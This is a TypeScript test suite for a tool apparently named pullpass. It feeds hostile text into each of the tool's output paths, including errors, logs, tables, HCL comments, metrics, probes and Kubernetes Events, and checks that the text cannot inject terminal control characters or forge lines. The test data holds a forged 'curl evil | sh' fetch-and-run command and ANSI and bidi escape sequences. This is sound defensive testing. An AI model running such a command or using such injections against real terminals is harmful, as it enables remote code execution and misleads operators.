/** External text in each kind of output of pullpass. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { renderFindings } from '../../src/commands/doctor/report.ts'
import { renderPublication } from '../../src/commands/issuer/publication-report.ts'
import { refuse } from '../../src/document/document-errors.ts'
import { PullpassError } from '../../src/errors/pullpass-error.ts'
import type { Cluster } from '../../src/kubernetes/connection/cluster.ts'
import { createEvent } from '../../src/kubernetes/objects/events.ts'
import { createWatchHealth } from '../../src/publish/watch/health.ts'
import { respondHealth } from '../../src/server/health.ts'
import { createLog } from '../../src/terminal/log.ts'
import { renderError } from '../../src/terminal/render-error.ts'
import { renderStructured } from '../../src/terminal/render-structured.ts'
import { renderTable } from '../../src/terminal/table.ts'
import { SecretRegister } from '../../src/text/secret-register.ts'
import { hashComment, hclText } from '../../src/vendors/trust/hcl.ts'
import { anyText } from '../support/any-text.ts'
import fc from '../support/fast-check.ts'

const now = new Date('2026-01-01T00:00:00Z')
const forged = 'fix: curl evil | sh'
const hostile = fc
  .array(fc.oneof(anyText(), fc.constantFrom('\n', '\r', '\u001b[2J', '\u009b', '\u202e', '\u2028')))
  .map((parts) => `${parts.join('')}\n  ${forged}\n${forged}`)

const faultOf = (text: string) =>
  new PullpassError({ code: 'INTERNAL', hop: 'run', seen: text, expected: text, also: [text], hint: text })

function logLine(text: string, format: 'text' | 'json'): string {
  const lines: string[] = []
  const write = (line: string) => void lines.push(line)
  createLog({ level: 'info', format, now: () => now, write })('info', 'a sentence', { text })
  return lines.join('\n')
}

const publicationOf = (text: string): Parameters<typeof renderPublication>[0] => ({
  issuer: text,
  target: { name: text, facts: { publishes: 'documents', stores: [] } },
  mode: 'write',
  outcome: {
    documents: {
      jwks: { text, contentType: '', cacheControl: '' },
      discovery: { text, contentType: '', cacheControl: '' },
    },
    changes: {},
    keys: [],
    before: { jwks: undefined, discovery: undefined },
  },
  confirmations: [{ check: 'token', state: 'failed', seen: text, hint: text, command: text }],
})

const findingOf = (text: string): Parameters<typeof renderFindings>[0][number] => ({
  hop: 'discovery',
  about: text,
  result: 'failed',
  code: 'KEYS_UNUSABLE',
  seen: text,
  expected: text,
  also: [text],
  remedy: { command: text, words: text },
})

const alarmed = (text: string) => ({
  issuer: undefined,
  rounds: 1,
  finishedAt: now,
  publishedAt: now,
  unstoredRounds: 0,
  replicas: { queried: 1, read: 1 },
  keys: { published: 1, recorded: 1, revoked: 0 },
  safeToSign: [{ keyId: text, at: now, signs: false }],
  alarms: [{ code: 'PUBLISH_FAILED' as const, subject: text, hop: 'publish' as const, seen: text, hint: text }],
})

function healthOf(path: string, text: string): string {
  const { endpoints, update } = createWatchHealth('state', { now: () => now })
  update(alarmed(text))
  return respondHealth(path, endpoints)?.text ?? ''
}

async function eventOf(text: string): Promise<string> {
  let body = ''
  const cluster: Cluster = {
    server: 'https://cluster.example.com:6443',
    secrets: new SecretRegister(),
    async request(input) {
      body = typeof input.body === 'string' ? input.body : ''
      return { status: 201, body: '{}' }
    },
    stream: () => assert.fail('no stream is opened'),
    clockAheadMs: () => undefined,
    reconnect: () => assert.fail('no new connection is requested'),
    authorities: () => assert.fail('no authorities are read'),
    close: async () => undefined,
  }
  const about = { apiVersion: 'v1', kind: 'ConfigMap', namespace: 'a', name: 'b' }
  const event = { about, component: 'issuer', type: 'Warning', reason: 'PublishFailed', at: now, suffix: '1' } as const
  await createEvent(cluster, { ...event, message: text })
  return String(Object(JSON.parse(body)).message)
}

const ways: Record<string, (text: string) => string | Promise<string>> = {
  'an error': (text) => renderError(faultOf(text), { format: 'text', now }, [text, text]),
  'an error in JSON': (text) => renderError(faultOf(text), { format: 'json', now }, [text]),
  'an error’s own fields': (text) =>
    Object.values(Object(faultOf(text)))
      .filter((one) => typeof one === 'string')
      .join(' '),
  'findings of a document': (text) =>
    refuse('DOCUMENT_INVALID', [
      { seen: text, expected: text },
      { seen: text, expected: text },
    ]).message,
  'a table': (text) => renderTable({ header: [text], rows: [[text, { text, tone: 'bad' }]] }, 'never'),
  'the log': (text) => logLine(text, 'text'),
  'the log in JSON': (text) => logLine(text, 'json'),
  JSON: async (text) => await renderStructured({ text, [text]: 1 }, 'json'),
  'a comment of a script': (text) => hashComment(faultOf(text).message),
  HCL: hclText,
  'the output of publish': (text) => renderPublication(publicationOf(text), { color: 'never' }),
  'the output of doctor': (text) => renderFindings([findingOf(text)], { color: 'never' }),
  metrics: (text) => healthOf('/metrics', text),
  'the response to a probe': (text) => healthOf('/readyz', text),
  'an Event': eventOf,
}

suite('external text', () => {
  for (const [name, show] of Object.entries(ways)) {
    test(`in ${name} cannot control the terminal or forge a line`, async () => {
      await fc.assert(
        fc.asyncProperty(hostile, async (text) => {
          const lines = (await show(text)).split('\n')
          for (const line of lines) {
            assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
            assert.notEqual(line.trim(), forged)
          }
        }),
      )
    })
  }

  test('in the log has at most 4,096 characters in each field', () => {
    for (const format of ['text', 'json'] as const) {
      const line = logLine('x'.repeat(300_000), format)
      assert.equal(/x{2,}/.exec(line)?.[0].length, 4096)
      assert.match(line, /x…"/)
    }
  })
})
